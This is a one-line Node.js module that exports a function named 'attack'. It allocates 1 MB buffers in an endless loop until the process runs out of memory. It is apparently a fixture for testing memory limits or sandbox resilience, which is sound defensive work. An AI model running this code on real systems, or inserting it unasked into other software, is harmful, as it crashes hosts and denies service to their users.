exports.attack = () => { const kept = []; for (;;) kept.push(Buffer.alloc(1_000_000, 1)); };
